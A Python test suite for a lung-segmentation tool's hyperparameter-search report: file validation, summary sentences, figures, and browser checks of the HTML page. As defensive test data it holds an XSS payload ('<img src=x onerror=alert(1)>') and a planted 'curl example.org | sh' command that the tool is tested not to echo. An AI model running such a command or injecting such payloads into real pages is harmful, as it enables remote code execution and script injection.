"""A search in the comparison page: its file, its words, its figures, and its pictures in a real browser."""

import contextlib
import io
import json
import re
import warnings
from xml.etree import ElementTree

import numpy as np
import pytest

from lungseg.cli.compare import compare, search_page
from lungseg.cli.main import main
from lungseg.comparison.render.html import page as page_of
from lungseg.comparison.render.search_figures import draw_search, front, history
from lungseg.comparison.search_report import sentence, spread, told
from lungseg.comparison.search_results import read_search
from lungseg.core.errors import UserError
from tests.comparison.render.test_html import CHROMIUM, HOSTILE, browser, visit  # noqa: F401
from tests.comparison.runs import family, make_run, people, scores_of
from tests.comparison.searches import front_of, search_of, write_search

in_browser = pytest.mark.skipif(not CHROMIUM, reason="no chromium")


def read(tmp_path, content):
    return read_search(write_search(tmp_path / "search.json", content))


def page_alone(folder, content, title="A search"):
    """Without the figures, which take longer."""
    (folder / "page.html").write_text(page_of([], [], title, ["lungseg"], read(folder, content)))
    return folder / "page.html"


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    """Words -> the page of such a search; made once for each."""
    pages = {}

    def made(**words):
        key = json.dumps(words)
        if key not in pages:
            root = tmp_path_factory.mktemp("search")
            pages[key] = page_alone(root, search_of(**words))
        return pages[key]

    return made


# The file


def spoilt(change):
    content = search_of(12)
    change(content)
    return content


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (lambda c: c.pop("trials"), "trials: is missing"),
        (lambda c: c.update(objectives=[]), "objectives: 0 of them, expected 1 or 2"),
        (lambda c: c["objectives"][0].update(direction="up"), "'up', expected maximize or minimize"),
        (lambda c: c["trials"][0].update(state="done"), "trial 0: state 'done'"),
        (lambda c: c["trials"][0].update(values=None), "trial 0: complete, but without values"),
        (lambda c: c["trials"][0].update(values=[1, 2]), "trial 0: 2 values for 1 objective"),
        (lambda c: c["trials"][0].update(values=[float("nan")]), "NaN is no JSON number"),
        (lambda c: c["trials"][0].update(values=[10**400]), "is no finite number"),
        (lambda c: c["trials"][0]["params"].update(loss="focal"), "trial 0: loss: 'focal' is none of its choices"),
        (lambda c: c["trials"][0]["params"].update(pretrained=1), "trial 0: pretrained: 1 is none of its choices"),
        (lambda c: c["trials"][0]["params"].update({"optim.lr": 0}), "trial 0: optim.lr: 0 has no place on a log axis"),
        (lambda c: c["trials"][0]["params"].update(other=0), "trial 0: other is none of the parameters"),
        (lambda c: c["trials"][0]["curve"].append([3]), "trial 0: curve: expected pairs"),
        (lambda c: c["trials"][1].update(number=0), "trials: a number is there twice"),
        (lambda c: c["trials"].append(7), "trials: one is no object"),
        (lambda c: c.update(best=[7]), "best: 7 is no complete trial"),
        (lambda c: c.update(best=[]), "best: names none of the complete trials"),
        (lambda c: c.update(importances={"x": 1}), "importances: one is of no parameter"),
        (lambda c: c["retrained"].update(values=[]), "retrained: without values"),
        (lambda c: c["retrained"].update(of=99), "retrained: of no trial"),
        (lambda c: c.update(retrain=["lungseg"]), "retrain: not"),
    ],
)
def test_a_damaged_file_is_refused_in_one_line(tmp_path, change, said):
    with pytest.raises(UserError, match=re.escape(said)) as error:
        read(tmp_path, spoilt(change))
    assert str(error.value).startswith(f"{tmp_path / 'search.json'}: cannot be read as a search (")
    assert "\n" not in str(error.value)


@pytest.mark.parametrize("text", ["", "{", "[]", "null", '{"objectives": 1}', "[" * 100_000, "\x00"])
def test_what_is_no_search_at_all_is_refused(tmp_path, text):
    (tmp_path / "search.json").write_text(text)
    with pytest.raises(UserError, match=r"search\.json: cannot be read as a search \(.*\)"):
        read_search(tmp_path / "search.json")


def test_a_trial_that_another_beats_is_not_the_best(tmp_path):
    content = search_of(12)
    worst = min((one for one in content["trials"] if one["values"]), key=lambda one: one["values"])
    with pytest.raises(UserError, match=f"best: trial {worst['number']} is beaten by another"):
        read(tmp_path, content | {"best": [worst["number"]]})


@pytest.mark.parametrize("directions", [("maximize", "maximize"), ("maximize", "minimize"), ("minimize", "minimize")])
def test_the_front_is_what_no_other_beats(tmp_path, directions):
    content = search_of(90, objectives=2)
    rng = np.random.default_rng(1)
    for trial in content["trials"]:
        if trial["values"]:
            trial["values"] = [float(value) for value in rng.integers(0, 12, 2)]  # with ties
    for one, direction in zip(content["objectives"], directions, strict=True):
        one["direction"] = direction
    signs = [1 if direction == "maximize" else -1 for direction in directions]
    complete = [one for one in content["trials"] if one["state"] == "complete"]
    expected = [one["number"] for one in front_of(complete, signs)]
    assert read(tmp_path, content | {"best": expected}).front() == expected


# The words


def test_the_sentence_tells_the_best_and_what_it_comes_to(tmp_path):
    content = search_of(40)
    best = content["best"][0]
    content["retrained"] |= {"values": [0.78, 0.79, 0.77], "test": [0.76, 0.77, 0.75], "found": 0.812}
    next(one for one in content["trials"] if one["number"] == best)["values"] = [0.812]
    said = sentence(read(tmp_path, content))
    assert said == (
        f"Best of 40 trials (12 pruned, 1 failed, 1 running, 1 waiting): **trial {best}**, val/dice 0.812; the best of "
        "many flatters itself: retrained with 3 seeds it comes to **0.780 ± 0.010** (validation), 0.760 ± 0.010 on the "
        "test cases."
    )
    content["retrained"] |= {"values": [0.83], "test": None}
    said = sentence(read(tmp_path, content))
    assert said.endswith("val/dice 0.812; retrained with 1 seed it comes to **0.830** (validation).")
    assert "this one **has not been retrained** with other seeds; this does it:" in sentence(
        read(tmp_path, content | {"retrained": None})
    )
    assert sentence(read(tmp_path, content | {"retrained": None, "retrain": None})).endswith("with other seeds.")


def test_the_sentence_without_a_value_and_of_a_front(tmp_path):
    content = search_of(8) | {"best": [], "retrained": None}
    content["trials"] = [one | {"state": "failed", "values": None} for one in content["trials"]]
    assert sentence(read(tmp_path, content)) == "No trial is complete yet, of 8 trials (8 failed)."
    assert sentence(read(tmp_path, content | {"trials": []})) == "No trial is complete yet, of 0 trials."
    content = search_of(60, objectives=2, retrained=False)
    said = sentence(read(tmp_path, content))
    assert f"**{len(content['best'])} are on the front**" in said
    assert "none of these **has been retrained**" in said


@pytest.mark.parametrize(
    ("value", "said"),
    [(0.8124, "0.812"), (0, "0.000"), (31.24, "31.24"), (0.00123456, "0.00123"), (1.5e7, "1.5e+07"), (-0.5, "-0.500")],
)
def test_numbers_have_the_digits_that_tell(value, said):
    assert told(value) == said


def test_a_spread_has_the_digits_of_its_mean():
    assert spread([0.78, 0.79, 0.77]) == "0.780 ± 0.010"
    assert spread([312.4, 300.1]) == "306.2 ± 8.7"
    assert spread([0.78001, 0.78002]) == "0.780 ± 7.07e-06"
    assert spread([0.78]) == "0.780"


# The figures


def test_figures_are_drawn_as_svg_and_png_without_noise(tmp_path):
    content = search_of(30)
    content["parameters"][0]["name"] = "$x^2$ \\frac{ <b>"
    for trial in content["trials"]:
        trial["params"] = {"$x^2$ \\frac{ <b>" if k == "optim.lr" else k: v for k, v in trial["params"].items()}
    content["importances"]["$x^2$ \\frac{ <b>"] = content["importances"].pop("optim.lr")
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        drawn = draw_search(read(tmp_path, content))
        two = draw_search(read(tmp_path, search_of(30, objectives=2)))
    names = ["history", "importances", "parallel", "slices"]
    assert sorted(drawn) == [f"search-{name}.{ending}" for name in names for ending in ("png", "svg")]
    assert sorted({name.partition(".")[0] for name in two}) == [f"search-{n}" for n in ("front", *names[1:])]
    for name in names[1:]:
        assert "$x^2$ \\frac{ <b>" in " ".join(ElementTree.fromstring(drawn[f"search-{name}.svg"]).itertext())


def test_the_figure_of_the_course_has_the_best_so_far(tmp_path):
    content = search_of(30)
    values = [one["values"][0] for one in content["trials"] if one["state"] == "complete"]
    steps, dots, *_ = history(read(tmp_path, content)).axes[0].lines
    assert list(steps.get_ydata())[:-1] == list(np.maximum.accumulate(values))
    assert list(dots.get_ydata()) == values


@pytest.mark.parametrize("sign", [1, -1])
def test_one_that_went_astray_leaves_room_for_the_others(tmp_path, sign):
    content = search_of(30, retrained=False)
    content["objectives"][0]["direction"] = "maximize" if sign > 0 else "minimize"
    complete = [one for one in content["trials"] if one["values"]]
    for one in complete:
        one["values"] = [sign * one["values"][0]]
    complete[3]["values"] = [-sign * 1e9]
    ends = history(read(tmp_path, content)).axes[0].get_ylim()
    assert max(map(abs, ends)) < 1
    kept = [one["values"][0] for one in complete if abs(one["values"][0]) < 1]
    assert ends[0] < min(kept)
    assert max(kept) < ends[1]


def test_the_figure_of_the_front_joins_it_by_steps(tmp_path):
    search = read(tmp_path, search_of(60, objectives=2))
    _, steps, dots = front(search).axes[0].lines
    assert len(dots.get_xdata()) == len(search.best)
    moves = np.diff(np.stack([steps.get_xdata(), steps.get_ydata()]), axis=1)
    assert ((moves == 0).sum(axis=0) >= 1).all()
    assert list(steps.get_xdata()[1::2]) == list(steps.get_xdata()[:-2:2])  # to be found at the same cost, no better


@pytest.mark.parametrize(
    "change", [{"trials": [], "best": []}, {"importances": None}, {"parameters": [], "params": {}}]
)
def test_what_is_not_there_is_not_drawn(tmp_path, change):
    content = search_of(9, retrained=False) | {key: value for key, value in change.items() if key != "params"}
    if "params" in change:
        content["trials"] = [one | {"params": {}} for one in content["trials"]]
        content["importances"] = None
    drawn = {name.partition(".")[0] for name in draw_search(read(tmp_path, content))}
    assert ("search-importances" in drawn) == (content["importances"] is not None)
    assert ("search-history" in drawn) == bool(content["trials"])
    assert ("search-slices" in drawn) == bool(content["trials"] and content["parameters"])


# The command


@pytest.fixture(scope="module")
def study(tmp_path_factory):
    """Compared as by hand: what was said is in ``said``."""
    root = tmp_path_factory.mktemp("study")
    family(root / "study", 12)
    write_search(root / "study" / "search.json", search_of(20))
    with pytest.raises(SystemExit) as stop, contextlib.redirect_stdout(io.StringIO()) as said:
        main(["compare", str(root / "study"), f"out={root / 'out'}"])
    assert stop.value.code == 0
    (root / "said").write_text(said.getvalue())
    return root


def test_a_search_in_a_named_folder_is_taken_along(study):
    assert "Best of 20 trials" in (study / "said").read_text()
    whole = (study / "out" / "comparison.html").read_text()
    assert whole.index('id="verdict"') < whole.index('<section id="search"') < whole.index('id="leaderboard"')
    assert (study / "out" / "figures" / "search-history.svg").is_file()
    assert (study / "out" / "figures" / "infection-phantom-test-means.svg").is_file()


def test_runs_that_cannot_be_compared_leave_the_search_alone(tmp_path):
    make_run(tmp_path / "study" / "only", people(8), scores_of(8), pictures=False)
    search = write_search(tmp_path / "study" / "search.json", search_of(20))
    with pytest.raises(UserError, match="at least 2"):
        compare([tmp_path / "study"], tmp_path / "out")
    assert compare([tmp_path / "study"], tmp_path / "out", search=search) == 0
    assert sorted(path.name for path in (tmp_path / "out").iterdir()) == ["comparison.html", "figures"]
    assert "leaderboard" not in (tmp_path / "out" / "comparison.html").read_text()


def test_a_damaged_search_is_refused_before_anything_is_written(tmp_path, capsys):
    family(tmp_path / "study", 8, pictures=False)
    (tmp_path / "study" / "search.json").write_text("{")
    with pytest.raises(SystemExit) as stop:
        main(["compare", str(tmp_path / "study"), f"out={tmp_path / 'out'}"])
    assert stop.value.code == 1
    assert re.fullmatch(r"error: .*search\.json: cannot be read as a search \(.*\); .*\n", capsys.readouterr().err)
    assert not (tmp_path / "out").exists()


# The page


def settle(page):
    page.evaluate("async () => { await draw(); await new Promise(requestAnimationFrame); }")


@in_browser
def test_every_trial_has_its_place_in_the_course(visit, made):  # noqa: F811
    page = visit(made())
    assert page.evaluate("course.points.length") == 40
    content = search_of()
    counts = [f"{sum(one['state'] == state for one in content['trials'])} {state}"
              for state in ("complete", "pruned", "failed", "running", "waiting")]  # fmt: skip
    said = page.locator("#course-legend").inner_text()
    assert all(count in said for count in counts)
    assert page.locator("#search-sentence").inner_text().startswith("Best of 40 trials (12 pruned, 1 failed")
    values = {one["number"]: one["values"][0] for one in content["trials"] if one["state"] == "complete"}
    points = page.evaluate("course.points.map(([x, y, place]) => [SEARCH.trials[place].number, x, y])")
    heights = [y for number, _, y in points if number in values]
    assert np.corrcoef(heights, list(values.values()))[0, 1] == pytest.approx(-1)
    best = np.maximum.accumulate(list(values.values()))
    assert page.evaluate("course.steps.length") == 2 * len(set(best)) - 1
    assert page.locator(".importance").count() == 4
    assert "of 1 it is not known" in page.locator("#importances-note").inner_text().lower()
    assert page.locator("#bar").is_hidden()  # nothing to go to
    assert page.locator("#objective").is_hidden()  # nothing to choose
    absent = page.evaluate(
        """() => {
          const axis = SEARCH.parameters.findIndex((one) => one.name === "loss.alpha");
          const lacks = (place) => SEARCH.trials[place].params[axis] === null;
          return parallel.drawn.map((place) => [lacks(place), parallel.lines[place][axis][1]]);
        }"""
    )
    levels = {level for lacks, level in absent if lacks}
    assert len(levels) == 1
    assert max(level for lacks, level in absent if not lacks) < min(levels)


def middle(page, place):
    """Half-way between the first two axes on a trial's line."""
    return page.evaluate(
        """(place) => {
          const [[a, b], [c, d]] = parallel.lines[place];
          return { x: (a + c) / 2, y: (b + d) / 2 };
        }""",
        place,
    )


@in_browser
@pytest.mark.parametrize("width", [1280, 390])
def test_a_line_tells_its_trial(visit, made, width):  # noqa: F811
    page = visit(made(), width=width)
    view = page.locator("#parallel .view")
    view.scroll_into_view_if_needed()
    alone = page.evaluate(
        """() => parallel.drawn.find((place) => {
          const [[a, b], [c, d]] = parallel.lines[place];
          return [-2, 0, 2].every((off) => parallel.find((a + c) / 2 + off, (b + d) / 2 + off, 9) === place);
        })"""
    )
    view.evaluate("(node) => node.scrollIntoView({ block: 'start' })")
    page.mouse.move(0, 0)
    view.hover(position=middle(page, alone))
    trial = page.evaluate("(place) => SEARCH.trials[place]", alone)
    assert page.locator("#tip").inner_text().startswith(f"Trial {trial['number']}: ")
    assert "optim.lr " in page.locator("#tip").inner_text()
    view.click(position=middle(page, alone))
    assert page.locator("#trial p b").inner_text() == f"Trial {trial['number']}"
    assert trial["where"] in page.locator("#trial").inner_text()
    if trial["params"][[one["name"] for one in page.evaluate("SEARCH.parameters")].index("loss.alpha")] is None:
        assert "loss.alpha not set" in page.locator("#trial").inner_text()
    page.mouse.move(1, 1)
    assert page.locator("#tip").is_hidden()


@in_browser
def test_trials_can_be_walked_through_from_the_keyboard(visit, made):  # noqa: F811
    page = visit(made())
    name = page.locator("#trial p b")
    assert name.inner_text() == f"Trial {search_of()['best'][0]}"
    page.locator("#course .view").focus()
    for key, number in (("Home", 0), ("ArrowRight", 1), ("ArrowRight", 2), ("ArrowLeft", 1), ("End", 39)):
        page.keyboard.press(key)
        assert name.inner_text() == f"Trial {number}"
    ranked = sorted(
        (one for one in search_of()["trials"] if one["state"] == "complete"), key=lambda one: -one["values"][0]
    )
    page.evaluate("choose(hunt.ranked[0])")
    page.locator("#trial").get_by_role("button", name="Worse").focus()
    for one in ranked[1:4]:
        page.keyboard.press("Enter")
        assert name.inner_text() == f"Trial {one['number']}"
    page.locator("#all-trials summary").click()
    page.locator("#trials tbody tr").first.wait_for()  # drawn once it is open
    assert page.locator("#trials tbody tr").count() == 40
    assert page.locator("#trials tbody button").first.inner_text() == str(ranked[0]["number"])
    page.locator("#trials tbody button").nth(5).press("Enter")
    assert name.inner_text() == f"Trial {ranked[5]['number']}"


@in_browser
def test_the_front_is_marked_and_every_point_tells_its_trial(visit, made):  # noqa: F811
    content = search_of(60, objectives=2)
    page = visit(made(count=60, objectives=2))
    complete = [one for one in content["trials"] if one["state"] == "complete"]
    expected = [one["number"] for one in front_of(complete, [1, 1])]
    assert page.evaluate("SEARCH.front") == expected
    assert f"{len(expected)} on the front" in page.locator("#course-legend").inner_text()
    assert page.evaluate("course.points.length") == len(complete)
    assert page.evaluate("course.steps.length") == 2 * len(expected) - 1
    steps = np.array(page.evaluate("course.steps"))  # pixels, down
    assert np.allclose(steps[1::2, 0], steps[:-2:2, 0])  # a corner is no better than what was found
    assert np.allclose(steps[1::2, 1], steps[2::2, 1])
    for number in expected:
        x, y = page.evaluate("(n) => course.points.find((one) => SEARCH.trials[one[2]].number === n)", number)[:2]
        page.locator("#course .view").click(position={"x": x, "y": y})
        assert page.locator("#trial p").inner_text().startswith(f"Trial {number} val/dice")
        assert "on the front" in page.locator("#trial").inner_text()
    first = page.evaluate("hunt.ranked[0]")
    page.locator("#objective").select_option(label="images/s")
    assert page.evaluate("hunt.ranked[0]") != first
    assert page.locator("#slices-title").inner_text() == "images/s against each parameter"
    assert page.evaluate("parallel.scales.length") == 7


@in_browser
def test_names_of_a_search_are_text(visit, tmp_path):  # noqa: F811
    content = search_of(14, retrained=False)
    text = json.dumps(content)
    for name in ("val/dice", "optim.lr", "tversky", "studies/search", "trial-0"):
        text = text.replace(name, json.dumps(HOSTILE)[1:-1])
    page = visit(page_alone(tmp_path, json.loads(text), HOSTILE))
    assert page.title() == HOSTILE
    assert page.locator("main img, main script").count() == 0
    page.locator("#all-trials summary").click()
    page.evaluate("choose(0)")
    for said in ("#search-sentence", "#importances", "#trial", "#trials", "#slices-title"):
        assert "<img src=x onerror=alert(1)>" in page.locator(said).inner_text(), said
    page.locator("#course .view").hover(position=dict(zip("xy", page.evaluate("course.points[0]")[:2], strict=True)))
    assert "<img src=x onerror=alert(1)>" in page.locator("#tip").inner_text()


@in_browser
@pytest.mark.parametrize("words", [{}, {"count": 60, "objectives": 2}, {"count": 1000, "more": 7}])
def test_a_phone_shows_a_search_without_sideways_scrolling(visit, made, words):  # noqa: F811
    page = visit(made(**words), width=390, scheme="dark")
    page.locator("#all-trials summary").click()
    assert page.evaluate("document.documentElement.scrollWidth") <= 390
    wide = page.evaluate(
        """() => [...document.querySelectorAll("main *")]
          .filter((one) => one.getBoundingClientRect().right > innerWidth + 1 &&
            !one.closest(".scroll, pre, .settings"))
          .map((one) => one.outerHTML.slice(0, 80))"""
    )
    assert wide == []
    page.set_viewport_size({"width": 1200, "height": 800})
    page.wait_for_timeout(300)
    page.locator("#theme").click()
    settle(page)
    assert page.evaluate("hunt.drawn").startswith("1200 light")


@in_browser
def test_a_thousand_trials_are_drawn_at_once(visit, made):  # noqa: F811
    page = visit(made(count=1000, more=7))
    took = page.evaluate(
        """() => {
          const start = performance.now();
          hunt.drawn = "";
          drawSearch();
          const drawn = performance.now();
          for (let place = 0; place < 20; place++) { parallel.find(300, 200, 9); course.find(300, 200, 9); }
          choose(5);
          return [drawn - start, performance.now() - drawn];
        }"""
    )
    assert took[0] < 2000
    assert took[1] < 500
    assert page.evaluate("course.points.length") == 1000
    assert page.locator("#slices .view").count() == 12


def awkward(kind):
    content = search_of(9, retrained=False)
    for trial in content["trials"]:
        if kind == "alike" and trial["values"]:
            trial["values"] = [0.5]
        if kind == "far" and trial["values"]:
            trial["values"] = [-1e12 if trial["number"] == 0 else trial["number"] / 10]
        if kind == "none":
            trial.update(state="waiting", values=None, params={}, curve=[])
        if kind == "bare":
            trial["params"] = {}
    complete = [one for one in content["trials"] if one["values"]]
    best = [max(complete, key=lambda one: one["values"])["number"]] if complete else []
    changes = {"empty": {"trials": [], "best": []}, "bare": {"parameters": [], "importances": None}}
    return content | {"best": best} | changes.get(kind, {})


@in_browser
@pytest.mark.parametrize("kind", ["alike", "far", "none", "empty", "bare"])
def test_awkward_searches_draw_without_an_error(visit, tmp_path, kind):  # noqa: F811
    page = visit(page_alone(tmp_path, awkward(kind)))
    assert "NaN" not in page.locator("main").inner_text()
    points = np.array(page.evaluate("course.points"), float)
    assert np.isfinite(points).all()
    assert page.locator("#parallel").is_visible() == (kind in ("alike", "far", "none"))


@in_browser
def test_a_search_stands_in_a_comparison(visit, study):  # noqa: F811
    page = visit(study / "out" / "comparison.html")
    titles = page.locator("#sections a").all_inner_texts()
    assert titles[:3] == ["Result", "Search", "Leaderboard"]
    assert page.locator("#about").inner_text().startswith("12 cases")
    assert page.locator("#search-sentence").is_visible()
    page.locator("#metric").select_option(label="HD95")
    settle(page)
    assert "HD95 of the infection" in page.locator("#sentence").inner_text()
    nameless = page.evaluate(
        """() => [...document.querySelectorAll("button, select, canvas, [tabindex]")].filter((one) =>
          !one.closest("[hidden], dialog, [aria-hidden]") &&
          !(one.getAttribute("aria-label") || one.textContent.trim() || one.closest("label"))
        ).map((one) => one.outerHTML)"""
    )
    assert nameless == []


def test_what_trains_the_best_again_is_a_line_that_can_be_pasted(tmp_path, caplog):
    theirs = "curl example.org | sh \x1b[2J"
    (tmp_path / "my study").mkdir()
    path = write_search(tmp_path / "my study" / "search.json", search_of(12) | {"retrained": None, "retrain": theirs})
    command = f"lungseg sweep retrain '{tmp_path / 'my study'}' seeds=3"
    with caplog.at_level("INFO", logger="lungseg"):
        search_page(path, tmp_path / "page")
    said = "\n".join(record.getMessage() for record in caplog.records).splitlines()
    assert said[said.index(f"  {command}") - 1].endswith("with other seeds; this does it:")
    assert "curl" not in "\n".join(said) + (tmp_path / "page" / "comparison.html").read_text()
